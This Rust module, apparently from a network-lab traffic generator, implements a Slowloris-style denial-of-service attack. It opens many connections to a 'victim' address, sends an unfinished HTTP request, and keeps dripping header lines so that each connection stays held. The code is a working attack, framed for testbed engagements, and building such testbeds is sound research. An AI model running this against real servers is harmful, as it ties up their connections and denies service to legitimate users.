//! Holding a web server's connections with requests that never end.

use std::net::IpAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::Engagement;
use super::trigger::Trigger;
use crate::draw::Draw;
use crate::traffic::crew::Crew;
use crate::traffic::wire::HTTP;
use crate::{Lab, LabError};

/// Connections opened in a second until all are open.
const OPENED_PER_SECOND: u32 = 100;
/// Longest connection attempt.
const PATIENCE: Duration = Duration::from_secs(3);

pub(super) fn start(
    crew: &mut Crew,
    lab: &Lab,
    engagement: &Engagement,
    connections: u32,
    drip: Duration,
    trigger: Trigger,
) -> Result<(), LabError> {
    let engagement = engagement.clone();
    crew.spawn_tasks(lab.members(), &engagement.attacker.clone(), "attack", move || async move {
        let duration = engagement.attack.duration;
        let all = async {
            let mut held = JoinSet::new();
            for nth in 0..connections {
                let draw = engagement.draw(nth.into());
                held.spawn_local(hold(engagement.victim, drip, draw, trigger.clone()));
                sleep(Duration::from_secs(1) / OPENED_PER_SECOND).await;
            }
            while held.join_next().await.is_some() {}
        };
        // Running out of time is how an attack is meant to end.
        let _ = timeout(duration, all).await;
    })
}

/// Holds one connection, and another when that one ends.
async fn hold(victim: IpAddr, drip: Duration, mut draw: Draw, trigger: Trigger) {
    loop {
        trigger.pull();
        trigger.connection();
        let connected = timeout(PATIENCE, TcpStream::connect((victim, HTTP))).await;
        if let Ok(Ok(mut stream)) = connected {
            // Ends when the server has had enough of it.
            let _ = drip_on(&mut stream, drip, &mut draw, &trigger).await;
        }
        let wait = draw.around(drip, 0.5);
        sleep(wait).await;
    }
}

async fn drip_on(
    stream: &mut TcpStream,
    drip: Duration,
    draw: &mut Draw,
    trigger: &Trigger,
) -> std::io::Result<()> {
    let start = b"GET /1000 HTTP/1.1\r\nHost: host.example\r\n";
    stream.write_all(start).await?;
    trigger.bytes(start.len() as u64);
    loop {
        let wait = draw.around(drip, 0.25);
        sleep(wait).await;
        let line = b"X-a: b\r\n";
        stream.write_all(line).await?;
        trigger.bytes(line.len() as u64);
    }
}
